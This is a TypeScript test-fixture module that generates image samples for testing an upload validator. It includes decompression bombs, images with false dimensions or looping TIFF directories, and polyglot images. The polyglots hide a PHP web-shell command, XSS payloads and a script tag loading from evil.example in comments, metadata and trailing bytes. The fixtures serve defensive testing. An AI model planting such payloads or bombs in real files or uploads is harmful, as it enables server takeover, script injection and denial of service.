import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import {
  exif,
  frameHeaderOf,
  jpegComment,
  jpegExif,
  jpegSegment,
  patched,
  pngChunk,
  pngProfile,
  pngText,
  pngZippedText,
  uint24,
  uint32,
  webp,
  WEBP_ANIMATION,
  webpChunk,
  webpHead,
  withChunks,
  withGifComment,
  withSegments,
  withTiffTag,
} from './picture-bytes.js';
import { mapOf } from './picture-pixels.js';

export type Format =
  'jpeg' | 'progressive' | 'png' | 'interlaced' | 'gif' | 'webp' | 'moving' | 'tiff' | 'avif';

const map = (frames = 1) => mapOf({ width: 160, height: 120, channels: 'rgb', frames, orientation: 1 });

/** A small picture of every format. */
export const SAMPLES: Readonly<Record<Format, Buffer>> = {
  jpeg: await map().jpeg().toBuffer(),
  progressive: await map().jpeg({ progressive: true }).toBuffer(),
  png: await map().png().toBuffer(),
  interlaced: await map().png({ progressive: true }).toBuffer(),
  gif: await map(3).gif().toBuffer(),
  webp: await map().webp().toBuffer(),
  moving: await map(3).webp().toBuffer(),
  tiff: await map().tiff({ compression: 'deflate' }).toBuffer(),
  avif: await map().avif({ effort: 0 }).toBuffer(),
};

export const EXTENSION: Readonly<Record<Format, string>> = {
  ...{ jpeg: 'jpg', progressive: 'jpg', png: 'png', interlaced: 'png', gif: 'gif', webp: 'webp' },
  ...{ moving: 'webp', tiff: 'tiff', avif: 'avif' },
};

const PNG_START = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const PNG_END = pngChunk('IEND', Buffer.alloc(0));

/** The header of a grey PNG of one bit a pixel. */
const pngHeader = (width: number, height: number) =>
  pngChunk('IHDR', Buffer.concat([uint32(width), uint32(height), Buffer.from([1, 0, 0, 0, 0])]));

/** A black PNG, which packs well. */
export function blackPng(width: number, height: number): Buffer {
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
  return Buffer.concat([PNG_START, pngHeader(width, height), pngChunk('IDAT', deflateSync(rows)), PNG_END]);
}

/** An animation on a canvas of this size; each frame changes one pixel of it. */
export function longGif(width: number, height: number, frames: number): Buffer {
  const screen = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  screen.writeUInt16LE(width, 6);
  screen.writeUInt16LE(height, 8);
  const frame = (n: number) => {
    const bytes = Buffer.from('21f904040a000000' + '2c0000000001000100' + '00' + '02024c0100', 'hex');
    bytes.writeUInt16LE(n % width, 9);
    return bytes;
  };
  return Buffer.concat([screen, ...Array.from({ length: frames }, (_, n) => frame(n)), Buffer.from(';')]);
}

/** A WebP that announces a canvas of this size, with small frames. */
export async function largeWebp(width: number, height: number, frames: number): Promise<Buffer> {
  const dot = (
    await sharp({ create: { width: 1, height: 1, channels: 3, background: 'red' } })
      .webp({ lossless: true })
      .toBuffer()
  ).subarray(12);
  const head = webpHead(frames > 1 ? WEBP_ANIMATION : 0, width, height);
  if (frames === 1) return webp(head, dot);
  const position = Buffer.concat([uint24(0), uint24(0), uint24(0), uint24(0), uint24(100), Buffer.alloc(1)]);
  const frame = webpChunk('ANMF', Buffer.concat([position, dot]));
  return webp(head, webpChunk('ANIM', Buffer.alloc(6)), ...Array.from({ length: frames }, () => frame));
}

/** A JPEG whose frame header tells another size. */
export function lyingJpeg(width: number, height: number): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16BE(height);
  size.writeUInt16BE(width, 2);
  return patched(SAMPLES.jpeg, frameHeaderOf(SAMPLES.jpeg) + 5, size);
}

/** A TIFF whose first directory tells another size. */
export const lyingTiff = (width: number, height: number) =>
  withTiffTag(withTiffTag(SAMPLES.tiff, 0x100, width), 0x101, height);

/** A TIFF whose first directory leads to itself. */
export function endlessTiff(): Buffer {
  const directory = SAMPLES.tiff.readUInt32LE(4);
  const next = directory + 2 + SAMPLES.tiff.readUInt16LE(directory) * 12;
  return patched(SAMPLES.tiff, next, SAMPLES.tiff.subarray(4, 8));
}

/** An AVIF whose property of the size tells another one. */
export function lyingAvif(width: number, height: number): Buffer {
  const at = SAMPLES.avif.indexOf('ispe');
  return patched(SAMPLES.avif, at + 8, Buffer.concat([uint32(width), uint32(height)]));
}

/** A progressive JPEG whose last scan comes again and again. */
export async function manyScans(size: number, scans: number): Promise<Buffer> {
  const create = { width: size, height: size, channels: 3, background: 'red' } as const;
  const file = await sharp({ create }).jpeg({ progressive: true }).toBuffer();
  const scan = file.subarray(file.lastIndexOf(Buffer.from([0xff, 0xda])), -2);
  return Buffer.concat([
    file.subarray(0, -2),
    ...Array.from({ length: scans }, () => scan),
    file.subarray(-2),
  ]);
}

/** A picture whose image data are noise; its structure is as it should be. */
export function scrambledPng(): Buffer {
  const noise = pngChunk('IDAT', randomBytes(2000));
  return Buffer.concat([PNG_START, pngHeader(500, 500), noise, PNG_END]);
}

export const emptyPng = () => Buffer.concat([PNG_START, pngHeader(500, 500), PNG_END]);

const MEGABYTE = 1024 * 1024;

/**
 * Small files that grow when they are unpacked, but are pictures: they may be taken, and must cost little.
 */
export function packedMetadata(): Readonly<Record<string, Buffer>> {
  const zeros = Buffer.alloc(64 * MEGABYTE);
  return {
    'zTXt.png': withChunks(SAMPLES.png, pngZippedText(zeros)),
    'many-zTXt.png': withChunks(
      SAMPLES.png,
      ...Array.from({ length: 50 }, () => pngZippedText(zeros.subarray(0, 8 * MEGABYTE))),
    ),
    'iCCP.png': withChunks(SAMPLES.png, pngProfile(zeros)),
    'chunks.png': withChunks(
      SAMPLES.png,
      ...Array.from({ length: 100_000 }, () => pngChunk('teSt', Buffer.alloc(0))),
    ),
    'fill.jpg': Buffer.concat([
      SAMPLES.jpeg.subarray(0, 2),
      Buffer.alloc(2 * MEGABYTE, 0xff),
      SAMPLES.jpeg.subarray(2),
    ]),
    'segments.jpg': withSegments(SAMPLES.jpeg, ...Array.from({ length: 100_000 }, () => jpegComment(''))),
    'blocks.gif': Buffer.concat([
      SAMPLES.gif.subarray(0, -1),
      Buffer.from([0x21, 0xfe]),
      Buffer.alloc(MEGABYTE, 1),
      Buffer.from([0, 0x3b]),
    ]),
  };
}

const PHP = '<?php system($_GET["c"]); ?>';
const HTML = '<html><body onload=alert(1)></body></html>';
const SCRIPT = '<script>alert(1)</script>';
/** A file is read in pieces, and something may stand where two of them meet. */
const PIECE = 256 * 1024;

/** Pictures that are something else as well. */
export function polyglots(): Readonly<Record<string, Buffer>> {
  const { jpeg, png, gif, webp: still } = SAMPLES;
  const straddling = (offset: number) => {
    const filled = withSegments(jpeg, ...Array.from({ length: 5 }, () => jpegComment('-'.repeat(60_000))));
    return patched(filled, PIECE - offset, Buffer.from(SCRIPT));
  };
  return {
    'comment.gif': withGifComment(gif, SCRIPT),
    'behind.gif': Buffer.concat([gif, Buffer.from(HTML)]),
    'comment.jpg': withSegments(jpeg, jpegComment(PHP)),
    'exif.jpg': withSegments(
      jpeg,
      jpegSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), exif({}), Buffer.from(PHP)])),
    ),
    'behind.jpg': Buffer.concat([jpeg, Buffer.from(PHP)]),
    'text.png': withChunks(png, pngText(SCRIPT)),
    'chunk.png': withChunks(png, pngChunk('seCr', Buffer.from(HTML))),
    'behind.png': Buffer.concat([png, Buffer.from(`\n<!DOCTYPE html>${HTML}`)]),
    'behind.webp': Buffer.concat([still, Buffer.from(SCRIPT)]),
    'upper.gif': withGifComment(gif, SCRIPT.toUpperCase()),
    'slash.gif': withGifComment(gif, '<script/src=//evil.example></script>'),
    'svg.gif': withGifComment(gif, '<svg/onload=alert(1)>'),
    ...Object.fromEntries([1, 3, 7].map((offset) => [`straddling-${offset}.jpg`, straddling(offset)])),
  };
}

/** Pictures with what other software writes into them, and with what looks like a program by chance. */
export async function harmless(): Promise<Readonly<Record<string, Buffer>>> {
  const noise = randomBytes(300 * 200 * 3);
  for (let at = 0; at < noise.length - 100; at += 97)
    noise.write(['<?=', '<%', '<b>', '<?', '<s', '<!'][at % 6] ?? '', at, 'latin1');
  const raw = { width: 300, height: 200, channels: 3 } as const;
  return {
    'noise.png': await sharp(noise, { raw }).png({ compressionLevel: 0 }).toBuffer(),
    'noise.tiff': await sharp(noise, { raw }).tiff({ compression: 'none' }).toBuffer(),
    'exif.jpg': withSegments(SAMPLES.jpeg, jpegExif({ orientation: 1, isTelling: true })),
    'odd-orientation.jpg': withSegments(SAMPLES.jpeg, jpegExif({ orientation: 99 })),
    'two-exifs.jpg': withSegments(SAMPLES.jpeg, jpegExif({ orientation: 1 }), jpegExif({ orientation: 1 })),
    'broken-exif.jpg': withSegments(
      SAMPLES.jpeg,
      jpegSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0II*\0'), randomBytes(500)])),
    ),
  };
}

/** Files that are no pictures, or none that are taken. */
export const NO_PICTURES: Readonly<Record<string, Buffer>> = {
  'drawing.svg': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect/></svg>'),
  'drawing.png': Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
  drawing: Buffer.from(`\ufeff<!-- ${'x'.repeat(2000)} --><svg xmlns="http://www.w3.org/2000/svg"/>`),
  'page.jpg': Buffer.from(`<!DOCTYPE html>${HTML}`),
  'program.gif': Buffer.from(PHP),
  'text.png': Buffer.from('just a text'),
  'document.jpg': Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF'),
  'archive.png': Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1'),
  'bitmap.bmp': Buffer.concat([Buffer.from('BM'), Buffer.alloc(100)]),
  'icon.ico': Buffer.from('00000100010010100000010018006803000016000000', 'hex'),
  'grey.ppm': Buffer.from('P5 2 2 255 abcd'),
  'radiance.hdr': Buffer.from('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n\x01\x01\x01\x01', 'latin1'),
  'vips.v': Buffer.concat([Buffer.from('08f2a6b6', 'hex'), Buffer.alloc(100)]),
  'fits.png': Buffer.from('SIMPLE  =                    T'.padEnd(2880)),
  'eps.jpg': Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\nshowpage'),
  'matrix.mat': Buffer.from('MATLAB 5.0 MAT-file'.padEnd(128)),
  'video.jpg': Buffer.concat([
    uint32(24),
    Buffer.from('ftypisom\0\0\0\0isomiso2'),
    uint32(8),
    Buffer.from('mdat'),
  ]),
};

/** The first bytes by which files are told apart. */
export const MAGIC: readonly string[] = [
  ...['ffd8ff', 'ffd8ffe000104a46494600', 'ffd8ffe1', '89504e470d0a1a0a', '89504e470d0a1a0a0000000d49484452'],
  ...['474946383961', '474946383761', '52494646ffffffff57454250', '5249464600000000574542505650382c'],
  ...[
    '52494646640000005745425056503858',
    '49492a0008000000',
    '4d4d002a00000008',
    '49492b0008000000',
    '4d4d002b',
  ],
  ...[
    '000000206674797061766966',
    '0000001c667479706d696631',
    '000000186674797068656963',
    '00000000667479706176696600000000',
  ],
];
